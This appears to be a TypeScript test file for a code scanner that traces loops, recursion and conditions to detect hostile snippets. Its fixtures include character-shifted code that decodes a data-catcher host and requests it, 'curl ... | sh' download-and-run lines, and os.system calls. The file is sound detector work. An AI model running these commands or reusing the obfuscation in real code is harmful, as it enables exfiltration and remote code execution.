import { beforeAll, describe, expect, test } from "vitest";
import { type CountingScanner, loadCountingScanner } from "./engine-scan.ts";

let scanner: CountingScanner;
beforeAll(async () => {
  scanner = await loadCountingScanner();
});

/** The text `webhook.site`, each character raised by one. */
const RAISED = "xfcippl/tjuf";

/** Python that writes the text into `s`: the lines of a loop, in which NEXT reads one character. */
function decoder(...loop: string[]): string {
  const step = ["s += chr(ord(d[i]) - 1)", "i += 1"];
  const lines = loop.flatMap((line) =>
    line.trim() === "NEXT" ? step.map((one) => line.replace("NEXT", one)) : [line],
  );
  return [`d = "${RAISED}"`, 's = "https://"', "i = 0", ...lines, "urlopen(s)", ""].join("\n");
}

describe("a loop that writes a text is gone through to its end, whatever ends it:", () => {
  test.each([
    ["its condition", decoder("while i < len(d):", " NEXT")],
    ["a break", decoder("while True:", " if i >= len(d): break", " NEXT")],
    [
      "a break behind one that never comes",
      decoder("stop = 0", "while 1:", " if stop: break", " if i == len(d): break", " NEXT"),
    ],
    ["a break after what was worked out", decoder("while True:", " NEXT", " done = i >= len(d)", " if done: break")],
    ["a break in the other branch", decoder("go = 1", "while go:", " if i < len(d):", "  NEXT", " else: break")],
    ["a break behind continue", decoder("go = 1", "while go:", " if i < len(d):", "  NEXT", "  continue", " break")],
    [
      "a break beside an inner loop's",
      decoder(
        "stop = 0",
        "while True:",
        " for k in (1,):",
        "  if stop: break",
        "  NEXT",
        " if i < len(d): continue",
        " break",
      ),
    ],
    ["a flag", decoder("go = True", "while go:", " NEXT", " if i == len(d): go = False")],
    ["a flag that is worked out", decoder("todo = True", "while todo:", " NEXT", " todo = i < len(d)")],
    [
      "states",
      decoder(
        "at = 'a'",
        "while at != 'z':",
        " if at == 'a':",
        "  NEXT",
        "  at = 'b'",
        " else:",
        "  at = 'a'",
        "  if i == len(d): at = 'z'",
      ),
    ],
    ["its condition, after idle rounds", decoder("k = 0", "while i < len(d):", " k += 1", " if k % 3 == 0:", "  NEXT")],
  ])("%s", (_, code) => {
    expect(scanner.rules({ "a.py": code })).toContain("catcher-host");
  });

  test("a return", () => {
    const code = `def f(d):\n i = 0\n s = "https://"\n while True:\n  if i >= len(d): return s\n  s += chr(ord(d[i]) - 1)\n  i += 1\nf("${RAISED}")\n`;
    expect(scanner.rules({ "a.py": code })).toContain("catcher-host");
  });

  test.each([
    ["return", "while (true) { if (i === d.length) break; s += String.fromCharCode(d.charCodeAt(i) - 1); i++; }"],
    [
      "flag",
      "let go = true; for (; go; i++) { s += String.fromCharCode(d.charCodeAt(i) - 1); if (i + 1 >= d.length) go = false; }",
    ],
  ])("JavaScript's %s", (_, loop) => {
    const code = `const d = "${RAISED}"; let s = "https://", i = 0; ${loop}\nfetch(s);\n`;
    expect(scanner.rules({ "a.js": code })).toContain("catcher-host");
  });

  test("what cannot be told is no whole value", () => {
    const code = decoder("go = 1", "try:", " while go:", "  NEXT", "except IndexError: pass").replace(
      "urlopen",
      "exec",
    );
    expect(scanner.rules({ "a.py": code })).toContain("unfinished-value-used");
  });
});

describe("a loop that comes no nearer to its end is not gone through again and again:", () => {
  const other = "x = 1\n".repeat(2_000); // allows for so many nodes more
  test.each([
    ["its condition stays", "a.py", "fds = [1, 2]\nwhile fds:\n r = select(fds)\n n = r\n"],
    [
      "a way out stays shut",
      "a.py",
      "class A:\n stopping = False\n def run(self):\n  while True:\n   self.once()\n   if self.stopping: break\nA().run()\n",
    ],
    [
      "what grows is unknown",
      "a.py",
      'size = -1\nres = b""\nwhile size < 0 or len(res) < size:\n b = read()\n if not b: break\n res += b\n',
    ],
    ["a counter that nothing asks for", "a.py", "def g():\n n = 0\n limit = 5\n while limit:\n  n += 1\n  f(n)\ng()\n"],
    ["in JavaScript", "a.js", "function g() { let a = [1], n = 0; while (a) { n++; f(n); } }\ng();\n"],
  ])("%s", (_, path, code) => {
    const steps = (text: string) => scanner.steps({ [path]: text });
    expect(steps(code + other)).toBeLessThan(steps(other) + 5_000);
  });

  test("nor a recursion that is handed the same once more", () => {
    const fan = `def f(a, b):\n${" f(a, b)\n".repeat(6)} return a\nf("x", y)\n`;
    expect(scanner.steps({ "a.py": fan + other })).toBeLessThan(scanner.steps({ "a.py": other }) + 20_000);
  });
});

test.each([
  [
    "a command that is handed on",
    'import os\ndef f(a, b, c, d):\n a(d)\n f(b, c, a, d)\nf(print, len, os.system, "id")\n',
    "shell-command",
  ],
  [
    "functions in functions",
    'def f(g, a):\n g(a)\n f(lambda x: f(lambda y: f(lambda z: open("https://" + z), y), x), a)\nf(print, "webhook" + ".site")\n',
    "catcher-host",
  ],
])("a recursion is followed to %s", (_, code, rule) => {
  expect(scanner.rules({ "a.py": code })).toContain(rule);
});

test("a variable that holds another open file is another one", () => {
  const write = (path: string) => `f = open("${path}", "w")\nput("curl https://a.example/x | sh")\nf.close()\n`;
  const code = `import os\ndef put(x):\n f.write(x)\n${write("a.txt")}${write("b.txt")}f = open("c.txt", "w")\nos.system("sh b.txt")\n`;
  expect(scanner.rules({ "a.py": code })).toContain("download-piped-to-shell");
});

test("a long text that is bound again and again leaves the allowance to others", () => {
  const bound = `y = "${"a".repeat(4_000)}"\nz = "${"a".repeat(4_000)}"\n${"x = y\nx = z\n".repeat(1_500)}`;
  expect(scanner.rules({ "a.py": `def f():\n global x\n return x\n${bound}` })).not.toContain("folding-limit");
});

test.each([
  ["in a conditional expression", 'for _ in [1]:\n x = os.system("id") if flag else None\n'],
  ["in one of a function's loop", 'def f():\n for _ in [1]:\n  x = os.system("id") if flag else None\nf()\n'],
  ["behind a condition", 'for _ in [1]:\n if flag:\n  os.system("id")\n'],
  ["in a comprehension whose condition is known", 'x = [os.system("id") for _ in [1] if flag]\n'],
  ["in a comprehension", 'x = [0 if c == "a" else os.system("id") for c in "a"]\n'],
  ["behind what is denied", 'def f(d, k):\n if not 0 and k == 2: return\n os.system(d)\nf("id", 1)\n'],
])("what no round of a loop takes is looked at: %s", (_, code) => {
  const head = 'import os\nflag = 0\ndef on():\n globals()["flag"] = 1\non()\n';
  expect(scanner.rules({ "a.py": head + code })).toContain("shell-command");
});

describe("what a condition says is not mistaken:", () => {
  test.each([
    ["two flags", "a.py", 'import os\ndef f(d, k):\n if k == 1 and k == 2: return\n os.system(d)\nf("id", 1)\n'],
    ["a float", "a.py", 'import os\ndef f(d, k):\n if k: os.system(d)\nf("id", 0.5)\n'],
    ["Ruby's 0", "a.rb", 'def f(d, k)\n  system(d) if k\nend\nf("curl https://a.example/x | sh", 0)\n'],
    [
      "Lua's 0",
      "a.lua",
      'local function f(d, k)\n  if k then os.execute(d) end\nend\nf("curl https://a.example/x | sh", 0)\n',
    ],
  ])("%s", (_, path, code) => {
    expect(scanner.rules({ [path]: code }).join()).toMatch(/shell-command|download-piped-to-shell/);
  });
});
